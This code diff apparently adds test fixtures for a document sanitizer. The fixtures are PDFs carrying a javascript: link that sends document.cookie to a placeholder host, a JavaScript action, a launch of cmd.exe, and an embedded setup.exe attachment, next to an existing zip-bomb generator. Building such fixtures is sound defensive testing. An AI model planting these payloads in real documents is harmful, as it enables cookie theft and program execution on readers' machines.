@@ -3,13 +3,15 @@
 from __future__ import annotations
 
 import io
+import os
 import struct
 import zipfile
 import zlib
 
 import pymupdf
+from PIL import Image
 
-from meetings.fonts import SerifStyle, font_dir
+from meetings.minutes.fonts import SerifStyle, font_dir
 
 FONT = str(font_dir() / SerifStyle.REGULAR.value)  # every Vietnamese glyph
 
@@ -268,4 +270,109 @@ def docx_zip_bomb(megabytes: int = 256) -> bytes:
             block = b" " * (16 * 1024 * 1024)
             for _ in range(megabytes // 16):
                 f.write(block)
+    return out.getvalue()
+
+
+def _one_page(annots: bytes, *more: bytes, font: bool = True) -> bytes:
+    """One A4 page saying what it holds, with the annotation array `annots` (written as is)
+    and the objects `more` numbered from 6."""
+    content = b"BT /F1 14 Tf 72 760 Td (Bam vao day) Tj ET"
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >> /Annots " + annots + b" >>",
+        stream(content),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        *more,
+    ])
+
+
+JAVASCRIPT_URI = b"javascript:fetch\\('http://example.invalid/'+document.cookie\\)"
+
+
+def inline_links() -> bytes:
+    """Links whose annotations have no object number of their own: dictionaries written
+    inside the page's /Annots array, one with a `javascript:` URI, one running JavaScript,
+    one launching a program. A link to the page itself, inline too, is harmless and stays."""
+    return _one_page(
+        b"[<< /Type /Annot /Subtype /Link /Rect [72 750 300 780] /Border [0 0 0] "
+        b"/A << /S /URI /URI (" + JAVASCRIPT_URI + b") >> >> "
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] "
+        b"/A << /S /JavaScript /JS (app.alert\\('inline'\\);) >> >> "
+        b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] "
+        b"/A << /S /Launch /F (C:/Windows/System32/cmd.exe) >> >> "
+        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /Dest [3 0 R /Fit] >>]")
+
+
+def carrier_annotations() -> bytes:
+    """A file-attachment annotation (a paperclip holding setup.exe) with its pop-up note, and
+    the multimedia annotations (sound, movie, screen, rich media, 3D), some numbered, some
+    inline."""
+    return _one_page(
+        b"[6 0 R 7 0 R << /Type /Annot /Subtype /Sound /Rect [72 500 90 520] /Sound 8 0 R >> "
+        b"<< /Type /Annot /Subtype /Movie /Rect [100 500 200 560] /Movie << /F (phim.avi) >> >> "
+        b"9 0 R << /Type /Annot /Subtype /RichMedia /Rect [300 500 400 560] "
+        b"/RichMediaContent << /Assets << /Names [(a.swf) 10 0 R] >> >> >> "
+        b"<< /Type /Annot /Subtype /3D /Rect [400 500 500 560] /3DD 8 0 R >>]",
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /Name /PushPin "
+        b"/Contents (setup.exe) /FS << /Type /Filespec /F (setup.exe) /UF (setup.exe) "
+        b"/EF << /F 8 0 R >> >> /Popup 7 0 R >>",
+        b"<< /Type /Annot /Subtype /Popup /Rect [100 600 300 700] /Parent 6 0 R >>",
+        stream(EXE, b"/Type /EmbeddedFile"),
+        b"<< /Type /Annot /Subtype /Screen /Rect [200 500 300 560] "
+        b"/A << /S /Rendition /R << /C << /D << /F (phim.avi) >> >> >> >> >>",
+        b"<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>",
+    )
+
+
+def header_only() -> bytes:
+    """A PDF header, then nothing MuPDF can open: it names the file it failed on."""
+    return b"%PDF-1.7\n" + b"\x00garbage" * 100 + b"\n%%EOF\n"
+
+
+def docx_with_photo(side: int = 1600) -> bytes:
+    """A .docx holding one photo of `side` x `side` pixels of noise (7.7 MB for 1600): its PDF
+    is about 2 MB, since noise does not compress."""
+    image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
+    png = io.BytesIO()
+    image.save(png, "PNG")
+    emu = 5_000_000  # the picture's size on the page: 13.9 cm
+    ns = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
+          'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+          'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
+    drawing = (
+        f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="{emu}" cy="{emu}"/>'
+        '<wp:docPr id="1" name="Ảnh"/><a:graphic><a:graphicData uri="http://schemas.openxmlf'
+        'ormats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="anh.'
+        'png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rIdImg"/><a:stretch>'
+        '<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
+        f'<a:ext cx="{emu}" cy="{emu}"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
+        '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml",
+                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxml'
+                   'formats.org/package/2006/content-types"><Default Extension="rels" ContentT'
+                   'ype="application/vnd.openxmlformats-package.relationships+xml"/><Default E'
+                   'xtension="xml" ContentType="application/xml"/><Default Extension="png" Con'
+                   'tentType="image/png"/><Override PartName="/word/document.xml" ContentType='
+                   '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.m'
+                   'ain+xml"/></Types>')
+        z.writestr("_rels/.rels",
+                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas'
+                   '.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Ty'
+                   'pe="http://schemas.openxmlformats.org/officeDocument/2006/relationships/of'
+                   'ficeDocument" Target="word/document.xml"/></Relationships>')
+        z.writestr("word/_rels/document.xml.rels",
+                   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas'
+                   '.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdImg" '
+                   'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                   'image" Target="media/anh.png"/></Relationships>')
+        z.writestr("word/media/anh.png", png.getvalue())
+        z.writestr("word/document.xml",
+                   f'<?xml version="1.0" encoding="UTF-8"?><w:document {ns}><w:body><w:p><w:r>'
+                   f"<w:t>Ảnh hiện trường</w:t></w:r></w:p>{drawing}</w:body></w:document>")
     return out.getvalue()
